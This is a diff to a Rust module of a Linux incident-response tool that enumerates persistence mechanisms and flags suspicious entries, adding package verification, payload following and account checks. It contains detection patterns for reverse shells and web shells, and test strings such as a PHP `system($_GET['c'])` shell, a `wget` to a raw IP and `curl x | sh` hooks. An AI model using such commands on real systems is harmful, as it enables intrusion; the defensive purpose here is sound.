@@ -10,15 +10,17 @@
 //! items (a cron line, a unit's ExecStart, a key in authorized_keys) and the
 //! flag rules look at each item's command and file.
 
+use super::packages::{Packages, Verdict};
 use super::window::Window;
 use crate::host::Root;
 use crate::host::users::{self, User};
 use crate::openclaw::{Deployment, config};
 use crate::persistence_catalogue::{self as catalogue, Location, Mechanism, Parser, Runs};
+use crate::sanitize::escape_path;
 use regex::Regex;
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
-use std::collections::{BTreeMap, HashSet};
+use std::collections::{BTreeMap, HashMap, HashSet};
 use std::os::unix::fs::MetadataExt;
 use std::path::{Path, PathBuf};
 use std::sync::OnceLock;
@@ -41,17 +43,40 @@ pub struct Item {
     pub command: Option<String>,
     pub detail: Option<String>,
     pub flags: Vec<String>,
+    /// What the package database says of the file: `intact`, `modified`,
+    /// `conffile-edited`, `packaged` (nothing to compare) or `unpackaged`;
+    /// none where there is no dpkg database or the path is not a system one.
+    #[serde(default)]
+    pub package: Option<String>,
+    /// The program the entry runs that raised flags of its own (host path,
+    /// escaped), when it is not the entry's file itself.
+    #[serde(default)]
+    pub payload: Option<String>,
+    /// The flags only the payload raised (the entry's own text did not):
+    /// eradication acts on the payload for these, not on the entry.
+    #[serde(default)]
+    pub payload_flags: Vec<String>,
+    /// The most serious flag's severity; none when nothing is flagged.
+    #[serde(default)]
+    pub severity: Option<crate::record::Severity>,
 }
 
 impl Item {
     /// Identity across runs, for baselines.
     pub fn key(&self) -> String {
         format!(
-            "{}\u{0}{}\u{0}{}",
+            "{}\u{0}{}\u{0}{}\u{0}{}",
             self.mechanism,
             self.path,
-            self.command.as_deref().unwrap_or("")
+            self.command.as_deref().unwrap_or(""),
+            self.user.as_deref().unwrap_or("")
         )
+    }
+
+    fn flag(&mut self, f: &str) {
+        if !self.flags.iter().any(|x| x == f) {
+            self.flags.push(f.to_string());
+        }
     }
 }
 
@@ -87,7 +112,15 @@ pub fn text_flags(text: &str) -> Vec<&'static str> {
     static B64: OnceLock<Regex> = OnceLock::new();
     static REV: OnceLock<Regex> = OnceLock::new();
     let mut f = Vec::new();
-    if re(&TMP, r#"(^|[\s'"=:;(])(/tmp|/var/tmp|/dev/shm)/"#).is_match(text) {
+    static WEB: OnceLock<Regex> = OnceLock::new();
+    // Something named in the tmp dir: not the dir itself (`mountpoint
+    // /dev/shm/`) nor a variable (`DIR="/tmp/$1"`).
+    if re(
+        &TMP,
+        r#"(^|[\s'"=:;(])(/tmp|/var/tmp|/dev/shm)/[A-Za-z0-9._-]"#,
+    )
+    .is_match(text)
+    {
         f.push("runs_from_tmp");
     } else {
         let known = [
@@ -130,38 +163,60 @@ pub fn text_flags(text: &str) -> Vec<&'static str> {
     if re(&REV, r"(?i)/dev/(tcp|udp)/|\bnc(at)?\b[^\n]*\s-[a-z]*e\s|\bsocat\b[^\n]*\bexec:|\bbash\s+-i\b|\bmkfifo\b[^\n]*\bnc\b|\bpython[23]?\s+-c\b[^\n]*\bsocket\b|\bperl\s+-e\b[^\n]*\bsocket\b").is_match(text) {
         f.push("reverse_shell");
     }
+    if re(&WEB, r"(?i)\b(eval|assert|system|passthru|shell_exec|exec|popen|proc_open)\s*\(\s*(\$_(GET|POST|REQUEST|COOKIE|SERVER)|base64_decode|gzinflate|str_rot13)").is_match(text) {
+        f.push("web_shell");
+    }
     if IOCS.iter().any(|i| text.contains(i)) {
         f.push("ioc");
     }
     f
 }
 
-/// Files dpkg says it installed, when its data is readable.
-pub fn dpkg_files(root: &Root) -> Option<HashSet<String>> {
-    let dir = root.join("/var/lib/dpkg/info");
-    let rd = std::fs::read_dir(&dir).ok()?;
-    let mut set = HashSet::new();
-    for e in rd.flatten().take(100_000) {
-        let n = e.file_name();
-        if !n.to_string_lossy().ends_with(".list") {
-            continue;
-        }
-        if let Ok(b) = crate::safefs::read_bounded(&e.path(), 64 << 20) {
-            for l in String::from_utf8_lossy(&b).lines() {
-                set.insert(l.to_string());
-            }
-        }
-    }
-    Some(set)
-}
-
 struct Ctx<'a> {
     root: &'a Root,
     window: &'a Window,
-    dpkg: Option<HashSet<String>>,
+    /// The dpkg database, read when a system file is first judged (the
+    /// prompt-file check recover runs before every start needs none).
+    pkgs: std::cell::OnceCell<Option<Packages>>,
     users: Vec<User>,
+    /// `UID_MIN` of login.defs: below it (but root) is a service account.
+    uid_min: u32,
     items: Vec<Item>,
     unreadable: Vec<String>,
+    /// Flags of each program already followed (by resolved host path).
+    followed: HashMap<PathBuf, Vec<String>>,
+    /// Packaged kernel module names, read when a module line asks.
+    modules: Option<HashSet<String>>,
+    /// Programs entries run that no package vouches for (host paths): the
+    /// evidence a collection must hold besides the entries themselves.
+    programs: Vec<PathBuf>,
+}
+
+/// Where the package manager installs: a file here that no package owns
+/// was put there by a person or a script.
+fn is_system_path(host: &Path) -> bool {
+    ["/etc", "/usr", "/lib", "/lib64", "/bin", "/sbin"]
+        .iter()
+        .any(|p| host.starts_with(p))
+}
+
+/// Places that hold data, never programs: something run from here was
+/// hidden there (`/var/log/spy.sh`), or is a dpkg maintainer script run
+/// outside dpkg.
+fn is_data_dir(host: &Path) -> bool {
+    [
+        "/var/log",
+        "/var/spool",
+        "/var/cache",
+        "/var/mail",
+        "/var/backups",
+        "/var/lib/dpkg/info",
+        "/dev",
+        "/proc",
+        "/run/user",
+    ]
+    .iter()
+    .any(|p| host.starts_with(p))
 }
 
 fn fmt_ts(s: i64, n: i64) -> Option<String> {
@@ -170,13 +225,20 @@ fn fmt_ts(s: i64, n: i64) -> Option<String> {
 
 impl<'a> Ctx<'a> {
     fn new(root: &'a Root, window: &'a Window) -> Ctx<'a> {
+        let login_defs = crate::safefs::read_bounded(&root.join("/etc/login.defs"), 1 << 20)
+            .map(|b| String::from_utf8_lossy(&b).into_owned())
+            .unwrap_or_default();
         Ctx {
             root,
             window,
-            dpkg: dpkg_files(root),
+            pkgs: std::cell::OnceCell::new(),
             users: users::users(root),
+            uid_min: super::rules::uid_min(&login_defs),
             items: Vec::new(),
             unreadable: Vec::new(),
+            followed: HashMap::new(),
+            modules: None,
+            programs: Vec::new(),
         }
     }
 
@@ -194,7 +256,12 @@ impl<'a> Ctx<'a> {
                 *f = crate::sanitize::display_safe(f);
             }
             i.mechanism = crate::sanitize::display_safe(&i.mechanism);
+            i.severity = super::rules::severity(&i.flags);
         }
+        // Most serious first; the order is otherwise the catalogue's.
+        self.items.sort_by_key(|i| {
+            std::cmp::Reverse(i.severity.unwrap_or(crate::record::Severity::Info))
+        });
         let flagged = self.items.iter().filter(|i| !i.flags.is_empty()).count();
         Report {
             items: self.items,
@@ -219,16 +286,9 @@ impl<'a> Ctx<'a> {
                 flags.push("world_writable".into());
             }
         }
-        let hs = host.to_string_lossy();
-        if let Some(d) = &self.dpkg
-            && ["/etc/", "/usr/", "/lib/", "/bin/", "/sbin/"]
-                .iter()
-                .any(|p| hs.starts_with(p))
-            && !d.contains(hs.as_ref())
-            && !d.contains(hs.replacen("/usr/", "/", 1).as_str())
-        {
-            flags.push("unpackaged".into());
-        }
+        let package = m
+            .as_ref()
+            .and_then(|m| self.package_check(&host, m, &mut flags));
         Item {
             mechanism: mechanism.into(),
             attack: attack.into(),
@@ -242,28 +302,182 @@ impl<'a> Ctx<'a> {
             command: None,
             detail: None,
             flags,
+            package,
+            payload: None,
+            payload_flags: Vec::new(),
+            severity: None,
         }
+    }
+
+    /// The package verdict on an entry's file, adding `unpackaged` or
+    /// `modified_package_file`. A link is judged by what it leads to
+    /// under the root (a `.wants` link to a packaged unit is fine; one
+    /// to nowhere runs nothing); a file a maintainer script generates
+    /// ([`catalogue::GENERATED`]) by its template.
+    fn package_check(
+        &self,
+        host: &Path,
+        m: &std::fs::Metadata,
+        flags: &mut Vec<String>,
+    ) -> Option<String> {
+        let pkgs = self.packages()?;
+        if !is_system_path(host) {
+            return None;
+        }
+        let target = if m.file_type().is_symlink() {
+            let t = self.root.resolve(host)?;
+            // A link to nowhere runs nothing.
+            crate::safefs::lstat(&self.root.join(&t)).ok().flatten()?;
+            t
+        } else {
+            host.to_path_buf()
+        };
+        let ts = target.to_string_lossy();
+        let v = pkgs.verify(self.root, &ts);
+        match v {
+            Verdict::Unpackaged
+                if is_system_path(&target) && !catalogue::generated_ok(self.root, &ts) =>
+            {
+                flags.push("unpackaged".into())
+            }
+            Verdict::Modified => flags.push("modified_package_file".into()),
+            _ => {}
+        }
+        Some(v.word().to_string())
     }
 
     fn push(&mut self, mut it: Item, command: Option<&str>) {
         if let Some(c) = command {
-            for f in text_flags(c) {
-                if !it.flags.iter().any(|x| x == f) {
-                    it.flags.push(f.into());
+            // A vendor's entry, unchanged since its package installed it,
+            // is not judged by heuristics; what it runs still is.
+            if it.package.as_deref() != Some("intact") {
+                for f in text_flags(c) {
+                    it.flag(f);
+                }
+                let rules = super::rules::entry_flags(
+                    &it.mechanism,
+                    it.user.as_deref(),
+                    it.detail.as_deref(),
+                    c,
+                );
+                for f in rules {
+                    it.flag(f);
                 }
             }
-            // The program it runs being world-writable is as bad as the entry.
-            if let Some(prog) = c.split_whitespace().next().filter(|p| p.starts_with('/'))
-                && let Ok(Some(m)) = crate::safefs::lstat(&self.root.join(prog))
-                && m.mode() & 0o002 != 0
-                && !m.file_type().is_symlink()
-                && !it.flags.iter().any(|x| x == "world_writable")
+            let mut programs = super::payload::programs(c);
+            // udev finds a relative RUN program in its own lib dir.
+            if it.mechanism == "udev-rule"
+                && let Some(w) = c.split_whitespace().next().filter(|w| !w.starts_with('/'))
             {
-                it.flags.push("world_writable".into());
+                programs.push(format!("/usr/lib/udev/{w}"));
             }
+            self.follow(&mut it, &programs);
             it.command = Some(crate::sanitize::escape(c.trim()));
         }
         self.items.push(it);
+    }
+
+    /// The dpkg database under the root, if there is one.
+    fn packages(&self) -> Option<&Packages> {
+        self.pkgs.get_or_init(|| Packages::load(self.root)).as_ref()
+    }
+
+    /// True when a module a modules-load line names has no packaged `.ko`
+    /// (nor a DKMS build): decidable only with a dpkg database.
+    fn module_unpackaged(&mut self, line: &str) -> bool {
+        let root = self.root;
+        let Some(pkgs) = self.pkgs.get_or_init(|| Packages::load(root)) else {
+            return false;
+        };
+        let Some(name) = line.split_whitespace().next() else {
+            return false;
+        };
+        let name = name.replace('-', "_");
+        let known = self.modules.get_or_insert_with(|| pkgs.module_names());
+        if known.contains(&name) {
+            return false;
+        }
+        // A DKMS build is packaged source compiled here.
+        let dkms = self.root.join("/var/lib/dkms");
+        [name.clone(), name.replace('_', "-")]
+            .iter()
+            .all(|n| crate::safefs::lstat(&dkms.join(n)).ok().flatten().is_none())
+    }
+
+    /// Judges the programs an entry runs and adds their flags to it.
+    fn follow(&mut self, it: &mut Item, programs: &[String]) {
+        for p in programs {
+            let Some(real) = self.root.resolve(Path::new(p)) else {
+                continue;
+            };
+            let flags = match self.followed.get(&real) {
+                Some(f) => f.clone(),
+                None => {
+                    let f = self.judge_program(&real);
+                    self.followed.insert(real.clone(), f.clone());
+                    f
+                }
+            };
+            // The first program with flags is the one named (and the one
+            // eradication acts on).
+            if flags.is_empty()
+                || it
+                    .payload
+                    .as_ref()
+                    .is_some_and(|p| *p != escape_path(&real))
+            {
+                continue;
+            }
+            it.payload = Some(escape_path(&real));
+            for f in flags {
+                if !it.flags.contains(&f) {
+                    it.flags.push(f.clone());
+                    it.payload_flags.push(f);
+                }
+            }
+        }
+    }
+
+    /// Flags of one program (a resolved host path): a replaced packaged
+    /// binary; else, unless the package vouches for it, the text rules on a
+    /// script (an ELF is never read as text), world-writable, or kept
+    /// where only data belongs.
+    fn judge_program(&mut self, real: &Path) -> Vec<String> {
+        let local = self.root.join(real);
+        let Ok(Some(m)) = crate::safefs::lstat(&local) else {
+            return Vec::new();
+        };
+        if !m.file_type().is_file() {
+            return Vec::new();
+        }
+        let verdict = self
+            .packages()
+            .as_ref()
+            .map(|p| p.verify(self.root, &real.to_string_lossy()));
+        if verdict == Some(Verdict::Intact) {
+            return Vec::new();
+        }
+        self.programs.push(real.to_path_buf());
+        if verdict == Some(Verdict::Modified) {
+            return vec!["modified_package_file".into()];
+        }
+        let mut f: Vec<String> = Vec::new();
+        if m.mode() & 0o002 != 0 {
+            f.push("world_writable".into());
+        }
+        if is_data_dir(real) {
+            f.push("runs_from_data_dir".into());
+        }
+        if let Ok(b) = crate::safefs::read_bounded(&local, 1 << 20)
+            && !b.starts_with(b"\x7fELF")
+        {
+            f.extend(
+                text_flags(&String::from_utf8_lossy(&b))
+                    .into_iter()
+                    .map(String::from),
+            );
+        }
+        f
     }
 
     fn read(&mut self, local: &Path) -> Option<Vec<u8>> {
@@ -366,7 +580,7 @@ fn gather(c: &mut Ctx, loc: &Location) {
         Parser::Sudoers => sudoers(c, m, host),
         Parser::Launchd => launchd(c, m, host),
         Parser::Linger => linger(c, m, host),
-        Parser::Accounts => uid0_accounts(c, m, host),
+        Parser::Accounts => accounts(c, m, host),
         Parser::Listing => listing(c, m, host),
     }
 }
@@ -393,17 +607,115 @@ fn cron(c: &mut Ctx, m: &Mechanism, host: &Path) {
 }
 
 /// Whole files that run as scripts (cron.daily, profile.d, rc.local...).
+/// A yum/dnf plugin's `.conf` runs the plugin's Python module, read too.
+/// Git's `*.sample` hooks are never run, so they are not listed.
 fn scripts(c: &mut Ctx, mech: &str, attack: &str, host: &Path) {
     for f in file_entries(c, host) {
+        if mech == "git-hook" && f.extension().is_some_and(|x| x == "sample") {
+            continue;
+        }
         script(c, mech, attack, &f);
+        if mech == "dnf-plugin" {
+            dnf_plugin_module(c, &f);
+        }
+        if mech == "at" {
+            at_owner(c, &f);
+        }
+    }
+}
+
+/// The password field of each account in `/etc/shadow` (never shown: only
+/// whether it is empty, locked or set is judged). An unreadable shadow is
+/// named once, by the `account-files` listing.
+fn shadow_fields(c: &Ctx) -> HashMap<String, String> {
+    let Ok(b) = crate::safefs::read_bounded(&c.root.join("/etc/shadow"), 16 << 20) else {
+        return HashMap::new();
+    };
+    String::from_utf8_lossy(&b)
+        .lines()
+        .filter_map(|l| {
+            let mut f = l.split(':');
+            Some((f.next()?.to_string(), f.next()?.to_string()))
+        })
+        .collect()
+}
+
+/// An at job runs as the account that queued it, which owns the job file.
+fn at_owner(c: &mut Ctx, job: &Path) {
+    let shown = escape_path(&c.root.host_view(job));
+    let Some(it) = c.items.last_mut().filter(|i| i.path == shown) else {
+        return;
+    };
+    it.user = it.owner.map(|uid| {
+        c.users
+            .iter()
+            .find(|u| u.uid == uid)
+            .map_or(format!("uid {uid}"), |u| u.name.clone())
+    });
+}
+
+/// Where yum and dnf find the Python module of a plugin `.conf`.
+const PLUGIN_MODULE_DIRS: &[&str] = &[
+    "/usr/lib/yum-plugins/",
+    "/usr/share/yum-plugins/",
+    "/usr/lib/python3*/site-packages/dnf-plugins/",
+    "/usr/lib64/python3*/site-packages/dnf-plugins/",
+    "/usr/local/lib/python3*/site-packages/dnf-plugins/",
+];
+
+/// The plugin module a `.conf` enables, judged as the conf's payload.
+fn dnf_plugin_module(c: &mut Ctx, conf: &Path) {
+    let Some(stem) = conf
+        .file_name()
+        .and_then(|n| n.to_str())
+        .and_then(|n| n.strip_suffix(".conf"))
+    else {
+        return;
+    };
+    let modules: Vec<String> = PLUGIN_MODULE_DIRS
+        .iter()
+        .flat_map(|d| catalogue::expand(c.root, d))
+        .map(|d| d.join(format!("{stem}.py")).to_string_lossy().into_owned())
+        .collect();
+    // The conf's own item, if script() made one (an unreadable conf has none).
+    let shown = escape_path(&c.root.host_view(conf));
+    if c.items.last().is_some_and(|i| i.path == shown)
+        && let Some(mut it) = c.items.pop()
+    {
+        c.follow(&mut it, &modules);
+        c.items.push(it);
     }
 }
 
 fn script(c: &mut Ctx, mech: &str, attack: &str, local: &Path) {
     let Some(data) = c.read(local) else { return };
+    let mut it = c.item(mech, attack, local, Some(&data));
+    // An ELF (a systemd generator) is judged by its package, never as text.
+    if data.starts_with(b"\x7fELF") {
+        c.push(it, None);
+        return;
+    }
     let text = String::from_utf8_lossy(&data).into_owned();
-    let it = c.item(mech, attack, local, Some(&data));
-    c.push(it, first_flagged_line(&text).as_deref());
+    if it.package.as_deref() != Some("intact") {
+        for l in text.lines().filter(|l| !l.trim_start().starts_with('#')) {
+            for f in super::rules::entry_flags(mech, None, None, l) {
+                it.flag(f);
+            }
+        }
+    }
+    let cmd = if it.package.as_deref() == Some("intact") {
+        None
+    } else {
+        first_flagged_line(&text)
+    };
+    c.push(it, cmd.as_deref());
+    // Then what the script runs, after its own text is judged, so a flag
+    // it raises itself is never put down to a program it calls.
+    let programs = super::payload::script_programs(&text);
+    if let Some(mut it) = c.items.pop() {
+        c.follow(&mut it, &programs);
+        c.items.push(it);
+    }
 }
 
 /// A script's command, for the report: its first line a flag rule catches.
@@ -482,12 +794,64 @@ fn listed(c: &mut Ctx, m: &Mechanism, host: &Path, runs: Runs) {
     for f in file_entries(c, host) {
         let Some(data) = c.read(&f) else { continue };
         let base = c.item(m.id, m.attack, &f, Some(&data));
-        for l in lines(&data) {
-            if let Some(cmd) = pick(runs, l) {
-                c.push(base.clone(), Some(&cmd));
+        let entries: Vec<(String, String)> = match runs {
+            // apt.conf statements span lines (`Pre-Invoke {` ⏎ `"cmd";` ⏎ `};`).
+            Runs::AptInvoke => apt_hooks(&String::from_utf8_lossy(&data))
+                .into_iter()
+                .map(|cmd| (cmd.clone(), cmd))
+                .collect(),
+            _ => lines(&data)
+                .filter_map(|l| pick(runs, l).map(|cmd| (l.to_string(), cmd)))
+                .collect(),
+        };
+        for (l, cmd) in entries {
+            let mut it = base.clone();
+            if let Runs::Keyword(_) | Runs::Git = runs {
+                // The key says what the value is (`fsmonitor`, `ProxyCommand`).
+                it.detail = l
+                    .split(|ch: char| ch.is_whitespace() || ch == '=')
+                    .next()
+                    .map(str::to_owned);
             }
+            if let Runs::Module = runs
+                && !l.starts_with("install ")
+                && it.package.as_deref() != Some("intact")
+                && c.module_unpackaged(&cmd)
+            {
+                it.flag("unpackaged_module");
+            }
+            c.push(it, Some(&cmd));
         }
     }
+}
+
+/// The commands of apt.conf hooks (`APT::Update::Pre-Invoke`,
+/// `DPkg::Post-Invoke`, `DPkg::Pre-Install-Pkgs`...), in the block form
+/// over any number of lines or the `Key:: "cmd";` form.
+pub fn apt_hooks(text: &str) -> Vec<String> {
+    static HOOK: OnceLock<Regex> = OnceLock::new();
+    static QUOTED: OnceLock<Regex> = OnceLock::new();
+    let flat: String = text
+        .lines()
+        .map(str::trim)
+        .filter(|l| !l.starts_with("//") && !l.starts_with('#'))
+        .collect::<Vec<_>>()
+        .join(" ");
+    let hook = re(
+        &HOOK,
+        r#"(?i)[\w:-]*(Invoke|Install-Pkgs)[\w:-]*\s*(\{[^}]*\}|"[^"]*")"#,
+    );
+    let quoted = re(&QUOTED, r#""([^"]*)""#);
+    hook.captures_iter(&flat)
+        .flat_map(|c| {
+            let body = c.get(2).map_or("", |m| m.as_str()).to_string();
+            quoted
+                .captures_iter(&body)
+                .filter_map(|q| q.get(1).map(|m| m.as_str().to_string()))
+                .collect::<Vec<_>>()
+        })
+        .filter(|cmd| !cmd.trim().is_empty())
+        .collect()
 }
 
 /// The program a line names, if it names one.
@@ -497,6 +861,10 @@ fn pick(runs: Runs, l: &str) -> Option<String> {
         Runs::Module => module_line(l),
         Runs::Containing(s) => l.contains(s).then(|| l.to_string()),
         Runs::Keyword(keys) => keyword_value(l, keys),
+        Runs::Git => keyword_value(l, catalogue::GIT_COMMAND_KEYS).or_else(|| {
+            let (_, v) = l.split_once('=')?;
+            v.trim().strip_prefix('!').map(|c| c.trim().to_string())
+        }),
         Runs::Anacron => {
             let f: Vec<&str> = l.split_whitespace().collect();
             (f.len() >= 4 && !f[0].contains('=')).then(|| f[3..].join(" "))
@@ -568,15 +936,23 @@ fn authorized_keys(c: &mut Ctx, m: &Mechanism, host: &Path, account: Option<&str
             .position(|f| f.starts_with("ssh-") || f.starts_with("ecdsa-") || f.starts_with("sk-"));
         let comment = ki.map(|i| fields[i + 2..].join(" ")).unwrap_or_default();
         let options = ki.map(|i| fields[..i].join(" ")).unwrap_or_default();
+        // The blob's hash tells keys with the same comment apart.
+        let blob = ki.and_then(|i| fields.get(i + 1)).copied().unwrap_or("");
         it.detail = Some(
             format!(
-                "{} {}",
+                "{} {} {}",
                 ki.map(|i| fields[i]).unwrap_or("?"),
+                &crate::journal::sha256_hex(blob.as_bytes())[..16],
                 crate::sanitize::escape(&comment)
             )
             .trim()
             .to_string(),
         );
+        if let Some(u) = account.and_then(|a| c.users.iter().find(|u| u.name == a))
+            && super::rules::is_system_account(u, c.uid_min)
+        {
+            it.flag("ssh_key_system_account");
+        }
         // A forced command= is what such a key runs.
         let cmd = options
             .split("command=\"")
@@ -622,22 +998,42 @@ fn linger(c: &mut Ctx, m: &Mechanism, host: &Path) {
     }
 }
 
-/// Accounts with uid 0 besides root, from the passwd file at `host`.
-fn uid0_accounts(c: &mut Ctx, m: &Mechanism, host: &Path) {
+/// One item per account of the passwd file at `host`, flagged by the
+/// account rules ([`super::rules::account_flags`]).
+fn accounts(c: &mut Ctx, m: &Mechanism, host: &Path) {
     let passwd = c.root.join(host);
-    let extra: Vec<User> = c
-        .users
+    let shells_text = crate::safefs::read_bounded(&c.root.join("/etc/shells"), 1 << 20)
+        .map(|b| String::from_utf8_lossy(&b).into_owned())
+        .unwrap_or_default();
+    let shells: Vec<&str> = lines(shells_text.as_bytes()).collect();
+    // Packaged service accounts with a shell, where their package is installed.
+    let shell_ok: Vec<&str> = super::rules::SERVICE_SHELLS
         .iter()
-        .filter(|u| u.uid == 0 && u.name != "root")
-        .cloned()
+        .filter(|(_, marker)| match c.packages() {
+            Some(p) => p.owns(marker),
+            None => crate::safefs::lstat(&c.root.join(marker))
+                .ok()
+                .flatten()
+                .is_some(),
+        })
+        .map(|(name, _)| *name)
         .collect();
-    for u in extra {
-        let mut it = c.item(m.id, m.attack, &passwd, None);
+    let shadow = shadow_fields(&*c);
+    let base = c.item(m.id, m.attack, &passwd, None);
+    for u in c.users.clone() {
+        let mut it = base.clone();
         it.user = Some(u.name.clone());
-        it.flags.push("uid0".into());
+        for f in super::rules::account_flags(&u, c.uid_min, &shells, &shell_ok) {
+            it.flag(f);
+        }
+        let pw = super::rules::password_state(shadow.get(&u.name).map(String::as_str));
+        for f in super::rules::password_flags(&u, c.uid_min, pw) {
+            it.flag(f);
+        }
+        // Quoted, so a trailing space in the shell shows.
         it.detail = Some(format!(
-            "{} has uid 0 (home {}, shell {})",
-            u.name, u.home, u.shell
+            "uid {} gid {} home {:?} shell {:?}",
+            u.uid, u.gid, u.home, u.shell
         ));
         c.items.push(it);
     }
@@ -974,6 +1370,17 @@ fn cron_job(c: &mut Ctx, base: &Item, j: &Value) {
 /// Enumerates every mechanism: each catalogue location read with its
 /// parser and judged, then the deployment's own.
 pub fn run(dep: Option<&Deployment>, root: &Root, window: &Window) -> Report {
+    run_against(dep, root, window, None)
+}
+
+/// [`run`], with a baseline's items when there is one: an account or an
+/// SSH key that is not in it is flagged (`new_account`, `ssh_key_added`).
+pub fn run_against(
+    dep: Option<&Deployment>,
+    root: &Root,
+    window: &Window,
+    baseline: Option<&[Item]>,
+) -> Report {
     let mut c = Ctx::new(root, window);
     for loc in catalogue::locations(root, &c.users) {
         gather(&mut c, &loc);
@@ -981,7 +1388,86 @@ pub fn run(dep: Option<&Deployment>, root: &Root, window: &Window) -> Report {
     if let Some(dep) = dep {
         openclaw(&mut c, dep);
     }
+    file_attributes(&mut c);
+    if let Some(base) = baseline {
+        flag_new_since(&mut c.items, base);
+    }
     c.finish()
+}
+
+/// SUID/SGID and capabilities in the bin dirs, and replaced critical
+/// binaries ([`super::attributes`]), as items.
+fn file_attributes(c: &mut Ctx) {
+    use super::attributes as attr;
+    let homes: Vec<String> = c.users.iter().map(|u| u.home.clone()).collect();
+    let mut dirs: Vec<PathBuf> = Vec::new();
+    let per_home = homes.iter().flat_map(|h| {
+        attr::HOME_BIN_DIRS
+            .iter()
+            .map(move |d| format!("{}/{d}", h.trim_end_matches('/')))
+    });
+    let patterns: Vec<String> = attr::BIN_DIRS
+        .iter()
+        .map(|d| d.to_string())
+        .chain(per_home)
+        .collect();
+    for p in patterns {
+        for d in catalogue::expand(c.root, &p) {
+            // /bin is /usr/bin under merged /usr: list it once.
+            if let Some(real) = c.root.resolve(&d)
+                && !dirs.contains(&real)
+            {
+                dirs.push(real);
+            }
+        }
+    }
+    let mut found = attr::scan_bins(c.root, &dirs, c.packages());
+    if let Some(p) = c.packages() {
+        found.extend(attr::replaced_binaries(c.root, p));
+    }
+    for a in found {
+        let mut it = c.item(a.mechanism, a.attack, &a.local, None);
+        // The package verdict is the attribute check's own, not `unpackaged`.
+        it.flags.retain(|f| f != "unpackaged");
+        for f in a.flags {
+            it.flag(f);
+        }
+        it.detail = Some(a.detail);
+        c.items.push(it);
+    }
+}
+
+/// Flags accounts and SSH keys that a baseline did not have.
+fn flag_new_since(items: &mut [Item], base: &[Item]) {
+    // A key is told apart by its blob's hash, in the detail.
+    let id = |i: &Item| format!("{}\u{0}{}", i.key(), i.detail.as_deref().unwrap_or(""));
+    let known: HashSet<String> = base.iter().map(id).collect();
+    for it in items {
+        let flag = match it.mechanism.as_str() {
+            "account" => "new_account",
+            "ssh-authorized-keys" => "ssh_key_added",
+            _ => continue,
+        };
+        if !known.contains(&id(it)) {
+            it.flag(flag);
+        }
+    }
+}
+
+/// The programs persistence entries run that no package vouches for (host
+/// paths, resolved under the root): `ir collect` takes them with the
+/// entries, so a `pam_exec` script or a unit's `ExecStart` program is in
+/// the bundle (and behind the quarantine's evidence gate).
+pub fn untrusted_programs(root: &Root) -> Vec<PathBuf> {
+    let window = Window::parse(Some("24h"), None, chrono::Utc::now()).expect("a fixed window");
+    let mut c = Ctx::new(root, &window);
+    for loc in catalogue::locations(root, &c.users) {
+        gather(&mut c, &loc);
+    }
+    let mut v = std::mem::take(&mut c.programs);
+    v.sort();
+    v.dedup();
+    v
 }
 
 /// Only the deployment's prompt files, judged exactly as [`run`] judges
@@ -1075,7 +1561,25 @@ mod tests {
         assert!(text_flags("/tmp/.x/run").contains(&"runs_from_tmp"));
         assert!(text_flags("/home/u/.hidden/run").contains(&"runs_from_tmp"));
         assert!(text_flags("/usr/bin/node /home/u/.local/lib/openclaw.mjs gateway").is_empty());
+        // The tmp dirs themselves, or a variable under them, run nothing.
+        assert!(text_flags("if mountpoint -q /dev/shm/; then").is_empty());
+        assert!(text_flags(r#"DIR="/tmp/$1""#).is_empty());
+        assert!(text_flags("/dev/shm/.x").contains(&"runs_from_tmp"));
+        assert_eq!(text_flags("<?php system($_GET['c']); ?>"), ["web_shell"]);
+        assert_eq!(text_flags("eval(base64_decode($x));"), ["web_shell"]);
         assert!(text_flags("wget http://91.92.242.30/x").contains(&"ioc"));
+    }
+
+    #[test]
+    fn apt_hooks_in_every_form() {
+        let debian = "// x\nAPT::Update::Pre-Invoke {\n  \"curl x | sh\";\n};\n";
+        assert_eq!(apt_hooks(debian), ["curl x | sh"]);
+        assert_eq!(apt_hooks(r#"DPkg::Post-Invoke {"a"; "b";};"#), ["a", "b"]);
+        assert_eq!(
+            apt_hooks(r#"APT::Update::Post-Invoke-Success:: "c";"#),
+            ["c"]
+        );
+        assert!(apt_hooks(r#"APT::Periodic::Update-Package-Lists "1";"#).is_empty());
     }
 
     #[test]
@@ -1098,6 +1602,12 @@ mod tests {
             Some("diamorphine".into())
         );
         assert_eq!(pick(Runs::Module, "blacklist pcspkr"), None);
+        assert_eq!(
+            pick(Runs::Git, "up = !curl x | sh"),
+            Some("curl x | sh".into())
+        );
+        assert_eq!(pick(Runs::Git, "pager = less -R"), Some("less -R".into()));
+        assert_eq!(pick(Runs::Git, "name = Alice"), None);
         let ssh = Runs::Keyword(&["ProxyCommand"]);
         assert_eq!(
             pick(ssh, "ProxyCommand=ssh -W %h:%p bastion"),
@@ -1125,7 +1635,7 @@ mod tests {
     proptest! {
         #[test]
         fn parsers_never_panic(s in "\\PC{0,200}") {
-            for runs in [Runs::WholeLine, Runs::Module, Runs::Containing("x"), Runs::Keyword(&["K"]), Runs::Anacron, Runs::UdevRun, Runs::AptInvoke] {
+            for runs in [Runs::WholeLine, Runs::Module, Runs::Containing("x"), Runs::Keyword(&["K"]), Runs::Anacron, Runs::UdevRun, Runs::AptInvoke, Runs::Git] {
                 let _ = pick(runs, &s);
             }
             let _ = parse_cron_line(&s, true);
